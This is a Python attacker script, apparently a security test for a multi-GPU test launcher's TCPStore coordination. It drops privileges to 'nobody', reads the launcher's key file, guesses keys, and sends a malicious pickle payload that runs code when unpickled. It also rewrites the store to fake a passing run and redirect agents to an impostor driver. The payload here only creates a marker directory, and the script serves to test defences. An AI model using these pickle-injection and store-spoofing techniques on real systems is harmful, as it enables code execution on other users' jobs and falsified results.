"""Attack a run as another user of the machine: read the launcher's store, join as an agent, command agents.

Run as root, it becomes that user before it does anything: ``attacker.py join|command PORT …``. It prints what it got,
as JSON.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import re
import socket
import struct
import sys
import threading
from typing import Any

from torch._C._distributed_c10d import PrefixStore, TCPStore

from mgpu_check.engine.remote.connections import line
from mgpu_check.engine.remote.credentials import Key, Stranger, new_secret, present, verify
from mgpu_check.engine.remote.launched_process import LaunchedProcess, launched_process_of
from mgpu_check.engine.remote.meeting import PREFIX, Meeting

NOBODY = 65534
_TIMEOUT = 10.0


class Code:
    """Unpickled, it leaves a file."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.marker,)


def become_nobody() -> None:
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)


def heard(connection: socket.socket) -> str:
    """Everything that is said until the connection ends, in hexadecimal digits."""
    data = b""
    with contextlib.suppress(OSError):
        while received := connection.recv(1 << 16):
            data += received
    return data.hex()


def guesses(said: str, variables: dict[str, str]) -> list[Key]:
    """Keys from all entries of the store, raw and derived for the run, and some that a sloppy program might have."""
    secrets = [bytes.fromhex(found) for found in set(re.findall(r"(?:[0-9a-f]{2}){16,}", said))]
    secrets += [b"", bytes(32), said.encode(), json.loads(said)["said"].encode()]
    launched = launched_process_of(variables)
    assert launched is not None
    keys = [Key(secret, "a guess") for secret in secrets]
    return [*keys, *(key.of_run(launched.identity) for key in keys)]


def join(port: int, key_file: str, marker: str, variables: dict[str, str]) -> dict[str, Any]:
    """Read all, and try to be an agent, or a rank, whose answers pytest would unpickle."""
    found: dict[str, Any] = {"user": os.geteuid()}
    try:
        with open(key_file) as file:
            found["key file"] = file.read()
    except OSError as error:
        found["key file"] = type(error).__name__
    store = PrefixStore(PREFIX, TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False))
    said = store.get("driver").decode()
    found["store"] = said
    driver = json.loads(json.loads(said)["said"])
    body = pickle.dumps(Code(marker))
    wanted = line({"agent": {"rank": 0, "host": "evil", "final": False}}) + line({"launch": 1})
    payload = wanted + struct.pack("!4sQ", b"MGPU", len(body)) + body
    found["heard"], found["believed"] = [], 0
    for key in [None, *guesses(said, variables)]:
        with socket.create_connection((driver["address"], driver["port"]), _TIMEOUT) as connection:
            connection.settimeout(_TIMEOUT)
            if key is not None:
                try:
                    present(connection, key, _TIMEOUT)
                    found["believed"] += 1
                except (OSError, Stranger):
                    pass
            with contextlib.suppress(OSError):
                connection.sendall(payload)
                connection.shutdown(socket.SHUT_WR)
            found["heard"].append(heard(connection))
    # From now on, whoever looks for the driver is to find this one; and the run is to be green.
    with contextlib.suppress(RuntimeError):
        store.set("end", json.dumps({"said": json.dumps({"name": driver["name"], "code": 0}), "proof": "00" * 32}))
        store.set("driver", said.replace(str(driver["port"]), str(port)))
    return found


def command(port: int, marker: str, secret: str | None) -> dict[str, Any]:
    """Be the store, and the driver that is announced there, and have an agent do things.

    Args:
        secret: a key that is put into the store, too; None without one.
    """
    launched = LaunchedProcess("variables", 0, 2, None, None, None, "127.0.0.1", port)
    key = Key(new_secret(), "the attacker")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(_TIMEOUT)
        meeting = Meeting(launched, 30.0, None if secret else key)
        announced = meeting.announce("127.0.0.1", listener.getsockname()[1])
        print("ready", flush=True)
        found: dict[str, Any] = {"user": os.geteuid(), "obeyed": ""}
        closing = threading.Event()

        def serve() -> None:
            while not closing.is_set():
                with contextlib.suppress(OSError):
                    connection, _ = listener.accept()
                    with connection:
                        connection.settimeout(_TIMEOUT)
                        proof = verify(announced.key, f"127.0.0.1 {announced.port}".encode())
                        connection.sendall(next(proof)[0])
                        connection.recv(64)
                        connection.sendall(bytes(32) + line({"do": "launch", "id": 1}) + pickle.dumps(Code(marker)))
                        found["obeyed"] += heard(connection)

        thread = threading.Thread(target=serve)
        thread.start()
        sys.stdin.readline()  # the agent has ended
        closing.set()
        with contextlib.suppress(OSError):
            socket.create_connection(listener.getsockname(), 1.0).close()
        thread.join()
    return found


if __name__ == "__main__":
    "127.0.0.1".encode("idna")  # what is loaded late may be out of this user's reach: the interpreter may be root's
    become_nobody()
    what, *rest = sys.argv[1:]
    told = json.loads(rest[0])
    print(json.dumps(join(**told) if what == "join" else command(**told)), flush=True)
